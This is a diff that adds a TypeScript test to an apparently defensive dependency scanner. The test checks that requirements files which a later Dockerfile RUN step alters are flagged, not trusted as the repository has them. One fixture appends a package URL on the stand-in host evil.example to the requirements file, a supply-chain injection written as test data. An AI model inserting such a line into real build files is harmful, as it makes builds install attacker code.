@@ -276,6 +276,30 @@ describe('requirements files named by the install commands of Dockerfiles, workf
     ).toEqual(['CPP003@Dockerfile:4']);
   });
 
+  // The shell runs each RUN on the image the last one left: a later RUN's `>>`, `sed -i` or `cp` changes what the
+  // COPY put there, so the repository's file is no longer what pip reads.
+  it('say a COPY’d file a later RUN changes is unread, not read as the repository has it', async () => {
+    const scan = async (run: string, install = 'RUN pip install -r pkgs.list') =>
+      ids(
+        await scanWith(
+          tree({
+            'pkgs.list': 'requests==2.31.0\n',
+            Dockerfile: `FROM python:3.12\nWORKDIR /app\nCOPY pkgs.list .\nRUN ${run}\n${install}\n`,
+          }),
+          [pythonDepsStage],
+        ),
+      );
+    expect(await scan('echo "evil @ https://evil.example/e.tar.gz" >> pkgs.list')).toEqual(['CPP003@Dockerfile:5']);
+    expect(await scan("sed -i 's/requests.*/evil/' /app/pkgs.list")).toEqual(['CPP003@Dockerfile:5']);
+    expect(await scan('cp /opt/other.list pkgs.list')).toEqual(['CPP003@Dockerfile:5']);
+    // Changed and read by the same RUN, or read by an install before the change: as the shell orders them.
+    expect(await scan('echo evil >> pkgs.list && pip install -r pkgs.list', '')).toEqual(['CPP003@Dockerfile:4']);
+    expect(await scan('pip install -r pkgs.list && echo evil >> pkgs.list', '')).toEqual([]);
+    // A file the build makes whole (`pip freeze >`) is the build's own, as before; another file is no change.
+    expect(await scan('pip freeze > pkgs.list')).toEqual([]);
+    expect(await scan('pip freeze > /tmp/log.txt 2>&1')).toEqual([]);
+  });
+
   it('read the named file as requirements even where another command names it by -c', async () => {
     const dir = tree({
       Dockerfile: 'FROM python:3.12\nRUN pip install -c deps.lst\nRUN pip install -r deps.lst\n',
